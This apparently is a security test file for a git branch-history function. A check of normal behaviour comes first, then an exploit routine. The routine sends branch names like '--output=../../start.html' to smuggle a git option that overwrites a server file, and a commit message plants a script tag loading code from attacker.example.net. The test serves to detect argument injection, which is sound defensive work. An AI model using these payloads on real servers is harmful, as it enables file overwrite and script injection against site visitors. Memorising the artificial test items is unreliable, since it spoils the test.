import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import type { Breach } from '#proof/vary'

type Code = typeof import('./branch-history.ts')

function makeProject() {
  mkdirSync('repositories/site.git', { recursive: true })
  const git = (...args: string[]) =>
    execFileSync('git', ['-c', 'user.name=Mia', '-c', 'user.email=mia@example.com', ...args], { cwd: 'repositories/site.git' })
  git('init', '-q', '-b', 'main')
  writeFileSync('repositories/site.git/index.md', '# Site')
  git('add', '.')
  git('commit', '-q', '-m', 'Begin the site')
  git('checkout', '-q', '-b', 'feature/keys-2.0')
  writeFileSync('repositories/site.git/keys.md', '# Keys')
  git('add', '.')
  git('commit', '-q', '-m', '<script src="https://attacker.example.net/x.js"></script>')
}

export async function works({ branchHistory, NotFound }: Code) {
  makeProject()
  const main = await branchHistory('repositories', 'site', ' main ')
  assert.deepEqual(main.map(({ subject, files }) => [subject, files]), [['Begin the site', ['index.md']]], 'The history of main should have its commit, with the file that it changed.')
  const feature = await branchHistory('repositories', 'site', 'feature/keys-2.0')
  assert.deepEqual(feature.map(({ files }) => files), [['keys.md'], ['index.md']], 'The history of a branch should have its own commit and those before it.')
  await assert.rejects(branchHistory('repositories', 'site', 'unknown'), 'A branch that does not exist should be refused.')
  await assert.rejects(branchHistory('repositories', '../site', 'main'), NotFound, 'A project name that leads elsewhere should be refused.')
}

const forms = ['--output=../../start.html', '----output=../../start.html', ' --output=../../start.html']

export async function exploit({ branchHistory }: Code, _vary?: unknown, payloads = forms): Promise<Breach | false> {
  makeProject()
  for (const branch of payloads) {
    await branchHistory('repositories', 'site', branch).catch(() => {})
    if (existsSync('start.html') && readFileSync('start.html', 'utf8').includes('<script')) return { sent: `the branch ${branch}`, got: `start.html of the server is now: ${readFileSync('start.html', 'utf8')}` }
  }
  return false
}
